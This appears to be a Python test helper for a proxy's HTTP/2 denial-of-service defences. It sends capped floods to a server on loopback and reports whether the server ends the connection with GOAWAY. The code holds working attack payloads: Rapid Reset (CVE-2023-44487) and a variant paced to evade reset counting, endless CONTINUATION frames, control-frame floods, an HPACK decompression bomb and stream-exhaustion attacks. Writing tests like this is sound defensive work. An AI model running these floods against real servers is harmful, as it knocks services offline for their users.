#!/usr/bin/env python3
"""One HTTP/2 flood against a proxy on loopback, for crates/cli/tests/h2_floods.rs.

Usage: flood.py SCENARIO HOST:PORT

The connection is opened with the `h2` library (preface, SETTINGS, request headers through its
HPACK encoder); the abusive frames are then written raw with `hyperframe`, because a
well-behaved library refuses to send them. What the server sends back is read all the while
(so the flood is never held back by our own receive buffer) and scanned for GOAWAY.

Every flood is bounded twice: by a number of frames and by a time limit. The script prints one
JSON line: how the connection ended ("goaway", "closed" or "survived"), the GOAWAY's error code,
how many abusive frames were sent, and how long it took.
"""

import json
import select
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.settings
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

# No flood runs longer than this, whatever happens.
TIME_LIMIT = 10.0
# The polite client's requests take their time on a busy machine; they are bounded too.
POLITE_TIME_LIMIT = 40.0
# Frames written per send(): large enough to flood, small enough to keep reading in between.
BATCH = 200
PING = 6
GOAWAY = 7
MAX_STREAM_ID = 2**31 - 1


class Connection:
    """A client connection: the h2 library's state, a socket, and a scan of what comes back."""

    def __init__(self, address):
        host, port = address.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.h2 = h2.connection.H2Connection(config=config)
        self.h2.initiate_connection()
        self.received = b""
        self.outcome = None
        self.error_code = None
        self.debug = ""
        self.received_ack = None
        self.send(self.h2.data_to_send())

    def headers(self, stream_id, end_stream, extra=()):
        """A request's header block, HPACK-encoded by the h2 library's encoder."""
        headers = [
            (":method", "GET" if end_stream else "POST"),
            (":scheme", "http"),
            (":authority", "localhost"),
            (":path", "/flood"),
        ]
        headers.extend(extra)
        return self.h2.encoder.encode(headers)

    def send(self, data):
        """Writes all of `data`, reading what the server sends meanwhile; False once it ended."""
        view = memoryview(data)
        deadline = time.monotonic() + TIME_LIMIT
        while view and self.outcome is None:
            if time.monotonic() > deadline:
                return False
            _, writable, _ = select.select([self.sock], [self.sock], [], 0.5)
            self.read()
            if writable and self.outcome is None:
                try:
                    sent = self.sock.send(view)
                except BlockingIOError:
                    continue
                except OSError:
                    self.outcome = "closed"
                    break
                view = view[sent:]
        return self.outcome is None

    def read(self):
        """Reads whatever is waiting and scans it for GOAWAY."""
        while self.outcome is None:
            try:
                chunk = self.sock.recv(65536)
            except BlockingIOError:
                return
            except OSError:
                self.outcome = "closed"
                return
            if not chunk:
                self.outcome = "closed"
                return
            self.received += chunk
            self.scan()

    def scan(self):
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            kind = self.received[3]
            if len(self.received) < 9 + length:
                return
            payload = self.received[9 : 9 + length]
            self.received = self.received[9 + length :]
            if kind == PING and self.received_ack is False and payload == b"accepted":
                self.received_ack = True
            if kind == GOAWAY and length >= 8:
                self.outcome = "goaway"
                self.error_code = struct.unpack(">I", payload[4:8])[0]
                self.debug = payload[8:].decode("utf-8", "replace")
                return

    def wait_for_ping_ack(self):
        """Waits for the ACK of our PING "accepted"; False if the connection ended first."""
        self.received_ack = False
        deadline = time.monotonic() + TIME_LIMIT
        while not self.received_ack and self.outcome is None and time.monotonic() < deadline:
            select.select([self.sock], [], [], 0.1)
            self.read()
        return bool(self.received_ack)

    def linger(self, seconds):
        """Keeps reading until the server ends the connection, for at most `seconds`."""
        deadline = time.monotonic() + seconds
        while self.outcome is None and time.monotonic() < deadline:
            select.select([self.sock], [], [], 0.1)
            self.read()


def flood(conn, frames, count):
    """Writes `count` frames from the iterator `frames`, in batches; returns how many went."""
    sent = 0
    started = time.monotonic()
    while sent < count and time.monotonic() - started < TIME_LIMIT:
        batch = b"".join(next(frames) for _ in range(min(BATCH, count - sent)))
        if not conn.send(batch):
            break
        sent += min(BATCH, count - sent)
    return sent


def odd_ids(start=1):
    stream_id = start
    while True:
        yield stream_id
        stream_id = stream_id + 2 if stream_id + 2 <= MAX_STREAM_ID else 1


def rapid_reset(conn):
    """CVE-2023-44487: open a stream and cancel it at once, over and over."""
    block = conn.headers(1, True)

    def frames():
        for stream_id in odd_ids():
            headers = HeadersFrame(stream_id, block, flags=["END_HEADERS", "END_STREAM"])
            yield headers.serialize() + RstStreamFrame(stream_id, error_code=8).serialize()

    return flood(conn, frames(), 100_000)


def reset_after_accept(conn):
    """Rapid reset paced to dodge the count of resets of streams not yet accepted: a batch of
    requests, a PING whose ACK says the server has read them, a pause for it to take them up
    (forward them), then a RST_STREAM for each. Against an upstream that takes its time, every
    request is work started and thrown away."""
    block = conn.headers(1, True)
    ids = odd_ids()
    sent = 0
    started = time.monotonic()
    while sent < 100_000 and time.monotonic() - started < TIME_LIMIT:
        batch = [next(ids) for _ in range(50)]
        opens = b"".join(
            HeadersFrame(i, block, flags=["END_HEADERS", "END_STREAM"]).serialize() for i in batch
        )
        if not conn.send(opens + PingFrame(0, opaque_data=b"accepted").serialize()):
            break
        if not conn.wait_for_ping_ack():
            break
        # Part of the attack's shape, not a wait for the server: resets that come a moment
        # after the requests find them taken up.
        time.sleep(0.05)
        resets = b"".join(RstStreamFrame(i, error_code=8).serialize() for i in batch)
        if not conn.send(resets):
            break
        sent += len(batch)
    return sent


def continuation(conn):
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION forever."""
    conn.send(HeadersFrame(1, conn.headers(1, True), flags=["END_STREAM"]).serialize())

    def frames():
        while True:
            yield ContinuationFrame(1, b"").serialize()

    return flood(conn, frames(), 200_000)


def ping(conn):
    """PING after PING: each one asks for an ACK."""

    def frames():
        counter = 0
        while True:
            counter += 1
            yield PingFrame(0, opaque_data=counter.to_bytes(8, "big")).serialize()

    return flood(conn, frames(), 200_000)


def settings(conn):
    """SETTINGS after SETTINGS: each one asks for an ACK and is applied."""

    def frames():
        while True:
            yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()

    return flood(conn, frames(), 200_000)


def priority(conn):
    """PRIORITY frames for streams that never open: cost nothing to send, ask nothing back."""
    ids = odd_ids()

    def frames():
        while True:
            yield PriorityFrame(next(ids), depends_on=0, stream_weight=16).serialize()

    return flood(conn, frames(), 200_000)


def window_update(conn):
    """WINDOW_UPDATE by one byte on the connection, with nothing sent to earn it."""

    def frames():
        while True:
            yield WindowUpdateFrame(0, window_increment=1).serialize()

    return flood(conn, frames(), 200_000)


def empty_data(conn):
    """One request whose body is an endless run of empty DATA frames."""
    conn.send(HeadersFrame(1, conn.headers(1, False), flags=["END_HEADERS"]).serialize())

    def frames():
        while True:
            yield DataFrame(1, b"").serialize()

    return flood(conn, frames(), 200_000)


def unknown(conn):
    """Frames of a type the protocol does not define, which a peer must ignore."""

    def frames():
        while True:
            yield struct.pack(">I", 0)[1:] + bytes([0x42, 0]) + struct.pack(">I", 0)

    return flood(conn, frames(), 200_000)


def hpack_integer(value, prefix_bits, first_byte):
    """An HPACK integer (RFC 7541, 5.1) with `first_byte`'s high bits as its pattern."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = [first_byte | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_string(text):
    data = text.encode()
    return hpack_integer(len(data), 7, 0) + data


def hpack_bomb(conn):
    """A 4 KiB header put into the HPACK dynamic table, then referenced by one byte each, many
    times per block: each block decodes to tens of megabytes."""
    # :method GET, :scheme http, :path / (static), :authority without indexing.
    request = bytes([0x82, 0x86, 0x84]) + bytes([0x01]) + hpack_string("localhost")
    # A literal header with incremental indexing and a new name: it becomes index 62.
    insert = bytes([0x40]) + hpack_string("bomb") + hpack_string("x" * 4000)
    conn.send(HeadersFrame(1, request + insert, flags=["END_HEADERS", "END_STREAM"]).serialize())
    block = request + bytes([0x80 | 62]) * 16_000
    ids = odd_ids(3)

    def frames():
        while True:
            stream_id = next(ids)
            yield HeadersFrame(stream_id, block, flags=["END_HEADERS", "END_STREAM"]).serialize()

    return flood(conn, frames(), 2_000)


def stream_ids(conn):
    """The last stream id a client may use, and then a stream id that goes backwards."""
    last = HeadersFrame(MAX_STREAM_ID, conn.headers(1, True), flags=["END_HEADERS", "END_STREAM"])
    again = HeadersFrame(1, conn.headers(1, True), flags=["END_HEADERS", "END_STREAM"])
    conn.send(last.serialize() + again.serialize())
    return 2


def streams(conn):
    """Far more streams open at once than the server allows: requests whose bodies never end."""
    block = conn.headers(1, False)
    ids = odd_ids()

    def frames():
        while True:
            yield HeadersFrame(next(ids), block, flags=["END_HEADERS"]).serialize()

    return flood(conn, frames(), 20_000)


def polite(conn):
    """Not a flood: a busy client that plays by the rules, on one connection. Requests one
    after another, the WINDOW_UPDATEs the h2 library sends for the data it reads, a PING every
    20 requests, a SETTINGS every 100, and every fourth request cancelled as soon as it is sent.
    Returns how many requests were answered 200, or cancelled."""
    import h2.events

    answered = 0
    started = time.monotonic()
    for number in range(600):  # POLITE_REQUESTS in h2_floods.rs; over 500, so cancels are judged
        if conn.outcome is not None or time.monotonic() - started > POLITE_TIME_LIMIT:
            break
        stream_id = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(
            stream_id,
            [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/")],
            end_stream=True,
        )
        if number % 20 == 0:
            conn.h2.ping(number.to_bytes(8, "big"))
        if number % 100 == 0:
            conn.h2.update_settings({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100})
        cancel = number % 4 == 3
        if cancel:
            conn.h2.reset_stream(stream_id, error_code=8)
            answered += 1
        conn.send(conn.h2.data_to_send())
        done = cancel
        while not done and conn.outcome is None and time.monotonic() - started < POLITE_TIME_LIMIT:
            select.select([conn.sock], [], [], 0.1)
            try:
                data = conn.sock.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                conn.outcome = "closed"
                break
            if not data:
                conn.outcome = "closed"
                break
            for event in conn.h2.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    conn.outcome = "goaway"
                    conn.error_code = int(event.error_code)
                    conn.debug = (event.additional_data or b"").decode("utf-8", "replace")
                elif isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream_id:
                    if dict(event.headers).get(":status") == "200":
                        answered += 1
                elif isinstance(event, h2.events.DataReceived):
                    conn.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                    done = done or event.stream_id == stream_id
            conn.send(conn.h2.data_to_send())
    return answered


SCENARIOS = {
    "rapid_reset": rapid_reset,
    "reset_after_accept": reset_after_accept,
    "continuation": continuation,
    "ping": ping,
    "settings": settings,
    "priority": priority,
    "window_update": window_update,
    "empty_data": empty_data,
    "unknown": unknown,
    "hpack_bomb": hpack_bomb,
    "stream_ids": stream_ids,
    "streams": streams,
    "polite": polite,
}


def main():
    scenario, address = sys.argv[1], sys.argv[2]
    conn = Connection(address)
    started = time.monotonic()
    sent = SCENARIOS[scenario](conn)
    flood_seconds = time.monotonic() - started
    # A server that bounds the flood ends the connection; give it a moment to say so.
    if scenario != "polite":
        conn.linger(3.0)
    print(
        json.dumps(
            {
                "scenario": scenario,
                "outcome": conn.outcome or "survived",
                "error_code": conn.error_code,
                "debug": conn.debug,
                "sent": sent,
                "seconds": round(flood_seconds, 3),
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    main()
